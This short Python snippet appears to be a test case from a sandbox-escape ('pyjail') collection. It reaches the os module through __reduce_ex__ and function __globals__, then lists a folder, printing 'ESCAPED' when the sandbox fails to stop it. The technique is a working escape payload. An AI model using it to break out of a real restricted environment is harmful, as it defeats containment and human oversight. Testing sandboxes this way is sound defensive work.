# expect: done
# idea: take copyreg out of an object's own __reduce_ex__ and import os through its globals
# source: pyjail collections
def tick(ctx):
    for protocol in range(3):
        try:
            maker = Exception("x").__reduce_ex__(protocol)[0] if protocol == 1 else ctx.tick.__reduce_ex__(protocol)[0]
            os = maker.__globals__["__builtins__"]["__import__"]("os")
            print("reached os at protocol", protocol)
            print("ESCAPED: listed", os.listdir(ctx.config["folder"]))
        except Exception as error:
            print("refused:", type(error).__name__, error)
